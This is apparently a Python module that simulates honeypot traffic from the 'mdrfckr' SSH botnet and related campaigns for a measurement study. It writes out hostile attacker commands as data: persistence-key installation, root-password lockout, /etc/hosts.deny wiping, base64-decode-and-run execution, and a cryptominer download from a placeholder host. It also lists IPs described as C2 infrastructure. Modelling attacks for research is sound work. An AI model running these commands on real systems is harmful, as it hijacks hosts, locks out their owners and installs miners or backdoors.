"""The "mdrfckr" actor — the largest attack in the dataset (section 9).

Four coordinated behaviours share (mostly) one client-IP pool:

* ``mdrfckr`` — the initial variant: installs a persistence SSH key
  labelled ``mdrfckr``, locks the victim out by changing the root
  password, then runs a fixed reconnaissance sequence.
* ``mdrfckr_variant`` — appears 2022-12-08, an order of magnitude
  smaller: no password change, removes WorkMiner's ``/tmp/auth.sh`` /
  ``/tmp/secure.sh``, kills their processes and clears
  ``/etc/hosts.deny``.
* ``mdrfckr_base64`` — only during the eight documented low-activity
  windows: uploads base64-encoded cryptominer / shellbot / cleanup
  scripts from a dispersed pool of one-shot IPs.
* ``login_3245gs5662d34`` — the login-only campaign starting
  2022-12-08 18:00 UTC with a 99.4 % client-IP overlap with mdrfckr.
"""

from __future__ import annotations

import base64
import random
from datetime import date

from repro.attackers.activity import (
    Campaign,
    ConstantRate,
    RampUp,
    SumRate,
    Suppressed,
    Wave,
)
from repro.attackers.base import Bot, BotContext
from repro.attackers.ippool import ClientIPPool, SharedPool
from repro.config import SimulationConfig
from repro.events import event_windows
from repro.honeypot.session import ConnectionIntent
from repro.net.population import BasePopulation
from repro.util.rng import RngTree

#: The constant persistence key (its hash is what abuse DBs label
#: "CoinMiner"/"Malicious"; chosen so it does NOT collide with the
#: rapperbot key regex, which requires "...DAQABA").
MDRFCKR_KEY = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABmdRWq3vRyhijDXW8fLJuveMifz1oiVOTQ"
    "3kLrkVDQCJmdr mdrfckr"
)

#: Start of the variant + the 3245gs5662d34 credential campaign.
VARIANT_START = date(2022, 12, 8)
#: Seconds into 2022-12-08 when the credential campaign began (18:00 UTC).
CAMPAIGN_START_SECONDS = 18 * 3600

#: The eight C2-ish IPs referenced by the cleanup script, with the open
#: ports the paper reports for each.
C2_INFRASTRUCTURE: tuple[tuple[str, tuple[int, ...]], ...] = (
    ("45.9.148.101", (22,)),
    ("45.9.148.102", (22,)),
    ("185.247.22.14", (22,)),
    ("185.247.22.15", (22,)),
    ("194.38.20.199", (1337, 9999)),   # ZNC IRC bouncer
    ("91.241.19.84", (80, 3306)),
    ("103.56.62.131", (8080,)),
    ("147.78.47.224", (43, 80, 443)),
)

_RECON_LINES = (
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "uname -m",
    "top",
    "uname",
    "uname -a",
    "whoami",
    "lscpu | grep Model",
)

_ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def _key_install_lines() -> tuple[str, ...]:
    return (
        "uname -s -v -n -r -m",
        "cd ~; chattr -ia .ssh; lockr -ia .ssh",
        'cd ~ && rm -rf .ssh && mkdir .ssh && echo "' + MDRFCKR_KEY + '" '
        ">> .ssh/authorized_keys && chmod -R go= ~/.ssh",
    )


def _lockout_line(rng: random.Random) -> str:
    password = "".join(rng.choice(_ALNUM) for _ in range(16))
    return f'echo "root:{password}"|chpasswd|bash'


class MdrfckrBot(Bot):
    """The initial mdrfckr behaviour (key install + lockout + recon)."""

    ssh_versions = ("SSH-2.0-libssh-0.9.6", "SSH-2.0-libssh2_1.8.2")

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        self.shared_pool = ClientIPPool(
            "mdrfckr", population, tree, paper_ips=270_000, scale=config.scale,
            min_size=8,
        )
        # ~45k sessions/day baseline (≈46M over the window) with the
        # honeynet-deployment ramp, an onset-of-war bump, and collapses
        # during the eight documented event windows.
        base = SumRate(
            [
                ConstantRate(45_000, config.start, config.end),
                Wave(date(2022, 2, 25), 18, 22_000),
            ]
        )
        activity = Suppressed(
            RampUp(base, config.start, ramp_days=40),
            event_windows(),
            floor_fraction=0.001,
        )
        super().__init__("mdrfckr", activity, self.shared_pool)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        lines = _key_install_lines() + (_lockout_line(rng),) + _RECON_LINES
        return self.make_intent(
            rng,
            credentials=(("root", rng.choice(("1234", "admin", "123456"))),),
            command_lines=lines,
            duration_s=rng.uniform(3.0, 15.0),
        )


class MdrfckrVariantBot(Bot):
    """The post-2022-12-08 variant (WorkMiner interference, no lockout)."""

    ssh_versions = ("SSH-2.0-libssh-0.9.6",)

    def __init__(self, base: MdrfckrBot, config: SimulationConfig) -> None:
        activity = Suppressed(
            Campaign(VARIANT_START, config.end, 4_500),
            event_windows(),
            floor_fraction=0.001,
        )
        super().__init__("mdrfckr_variant", activity, base.shared_pool)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        lines = _key_install_lines() + (
            "rm -rf /tmp/auth.sh /tmp/secure.sh",
            "pkill -9 -f auth.sh; pkill -9 -f secure.sh",
            'echo "" > /etc/hosts.deny',
        ) + _RECON_LINES
        return self.make_intent(
            rng,
            credentials=(("root", rng.choice(("1234", "admin"))),),
            command_lines=lines,
            duration_s=rng.uniform(3.0, 15.0),
        )


def _base64_script(kind: str, rng: random.Random) -> str:
    """One of the three decoded script families (section 9)."""
    if kind == "cryptominer":
        wallet = "".join(rng.choice(_ALNUM) for _ in range(24))
        body = (
            "#!/bin/sh\n"
            f"WALLET={wallet}\n"
            "curl -s http://pool.invalid/xmrig.tar.gz -o /tmp/.xm.tar.gz\n"
            "nohup /tmp/.xm -o pool.invalid:3333 -u $WALLET &\n"
        )
    elif kind == "shellbot":
        channel = "".join(rng.choice("abcdefghij") for _ in range(6))
        body = (
            "#!/bin/sh\n"
            "# ShellBot IRC backdoor\n"
            f"SERVER=irc.invalid CHANNEL=#{channel} PORT=6667\n"
            "perl -e 'irc connect' \n"
        )
    else:  # cleanup
        kills = "\n".join(
            f"pkill -9 -f {ip}" for ip, _ in C2_INFRASTRUCTURE
        )
        body = "#!/bin/sh\n# cleanup\n" + kills + "\n"
    return base64.b64encode(body.encode("utf-8")).decode("ascii")


class MdrfckrBase64Bot(Bot):
    """Out-of-the-ordinary uploads seen only in low-activity windows."""

    min_expected_per_day = 0.25

    def __init__(self, base: MdrfckrBot, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        # dispersed one-shot infrastructure (1,624 unique IPs in paper)
        pool = ClientIPPool(
            "mdrfckr_base64", population, tree, paper_ips=1_624,
            scale=config.scale, min_size=24,
        )
        windows = event_windows()
        activity = SumRate(
            [Campaign(start, end, 600) for start, end in windows]
        )
        super().__init__("mdrfckr_base64", activity, pool)
        self._base = base

    def client_ip(self, rng: random.Random) -> str:
        # one-shot IPs: uniform, no heavy hitters
        return self.pool.pick_uniform(rng)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        kind = rng.choice(("cryptominer", "shellbot", "cleanup"))
        payload = _base64_script(kind, rng)
        lines = _key_install_lines() + (
            f"echo {payload} | base64 -d | bash",
        )
        return self.make_intent(
            rng,
            credentials=(("root", "1234"),),
            command_lines=lines,
            duration_s=rng.uniform(4.0, 20.0),
        )


class Login3245Bot(Bot):
    """The 3245gs5662d34 login-only campaign (24M sessions)."""

    def __init__(self, base: MdrfckrBot, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = SharedPool(
            "login_3245gs5662d34", base.shared_pool, population, tree,
            overlap=0.994,
        )
        activity = Campaign(VARIANT_START, config.end, 38_000)
        super().__init__("login_3245gs5662d34", activity, pool)

    def start_seconds(self, rng: random.Random, day: date) -> float:
        if day == VARIANT_START:
            return rng.uniform(CAMPAIGN_START_SECONDS, 86_400)
        return rng.uniform(0, 86_400)

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        return self.make_intent(
            rng,
            credentials=(("root", "3245gs5662d34"),),
            duration_s=rng.uniform(0.3, 3.0),
        )


class WorkMinerBot(Bot):
    """The WorkMiner botnet whose defences mdrfckr-variant disables."""

    def __init__(self, population: BasePopulation, tree: RngTree, config: SimulationConfig) -> None:
        pool = ClientIPPool(
            "workminer", population, tree, paper_ips=20_000, scale=config.scale
        )
        super().__init__(
            "workminer", ConstantRate(500, config.start, config.end), pool
        )

    def build_intent(
        self, ctx: BotContext, day: date, rng: random.Random, index: int
    ) -> ConnectionIntent:
        blocked = f"10.{rng.randint(0,255)}.{rng.randint(0,255)}.{rng.randint(1,254)}"
        lines = (
            "echo '#!/bin/sh' > /tmp/auth.sh",
            "echo '#!/bin/sh' > /tmp/secure.sh",
            f'echo "sshd: {blocked}" >> /etc/hosts.deny',
        )
        return self.make_intent(
            rng,
            credentials=(("root", rng.choice(("admin", "1234")),),),
            command_lines=lines,
        )
